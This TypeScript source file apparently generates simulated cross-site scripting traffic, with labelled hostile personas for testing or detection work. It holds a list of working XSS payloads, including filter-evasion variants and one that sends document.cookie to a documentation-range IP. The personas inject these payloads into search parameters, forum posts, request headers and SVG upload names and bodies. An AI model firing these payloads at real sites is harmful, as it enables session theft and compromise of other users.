/** Cross-site scripting: in a search, in a post, in a header, in an uploaded picture. */
import type { Persona } from '../actor.ts'
import { desktop, program } from '../clients.ts'
import type { Random } from '../random.ts'
import { visitor, withQuery } from '../visitor.ts'

const script = (r: Random): string => {
  const mark = r.hex(5)
  return r.pick([
    `<script>alert('${mark}')</script>`,
    `"><img src=x onerror=alert(${r.int(1, 99)})>`,
    `<svg/onload=fetch('//203.0.113.250/${mark}?c='+document.cookie)>`,
    `'-alert(document.domain)-'`,
    `<iframe src="javascript:alert('${mark}')"></iframe>`,
    `<body onpageshow=prompt(1)>`,
    `<a href="jav&#x09;ascript:alert(1)">${mark}</a>`,
    `<details open ontoggle=confirm(1)>`,
    `"autofocus onfocus="eval(atob('YWxlcnQoMSk='))`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
    `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  ])
}

export const CROSS_SITE: readonly Persona[] = [
  {
    kind: 'xss-search',
    count: 3,
    play: (r) => {
      const v = visitor(desktop(r), r)
      v.page('/')
      v.pause(1500, 3000)
      v.page('/search?q=boots')
      v.hostile('xss')
      for (let i = r.int(8, 22); i > 0; i--) {
        v.pause(400, 2200)
        v.page(withQuery('/search', { [r.pick(['q', 'sort', 'ref'])]: script(r) }))
      }
      return v.steps
    },
  },
  {
    kind: 'xss-forum',
    count: 2,
    play: (r) => {
      const v = visitor(desktop(r), r, 'forum.example.org')
      v.page('/forum')
      for (let i = r.int(6, 12); i > 0; i--) {
        v.harmless()
        v.pause(700, 2500)
        v.page(`/forum/thread/${r.int(1, 40)}`)
        v.hostile('xss')
        v.pause(900, 2500)
        v.form('/forum/post', { subject: r.pick(['hello', script(r)]), message: `nice ${script(r)}` })
      }
      return v.steps
    },
  },
  {
    kind: 'xss-header',
    count: 1,
    play: (r) => {
      const v = visitor(program('Mozilla/5.0'), r)
      v.hostile('xss')
      for (let i = 10; i > 0; i--) {
        v.pause(200, 1500)
        v.get('/blog/view?page=1', [[r.pick(['Referer', 'User-Agent', 'Cookie']), `x=${script(r)}`]])
      }
      return v.steps
    },
  },
  {
    kind: 'xss-upload',
    count: 1,
    play: (r) => {
      const v = visitor(desktop(r), r)
      v.page('/upload')
      v.hostile('xss')
      for (let i = 7; i > 0; i--) {
        v.pause(1500, 4000)
        v.upload(
          '/upload',
          `"><img src=x onerror=alert(${i})>.svg`,
          'image/svg+xml',
          `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
        )
      }
      return v.steps
    },
  },
]
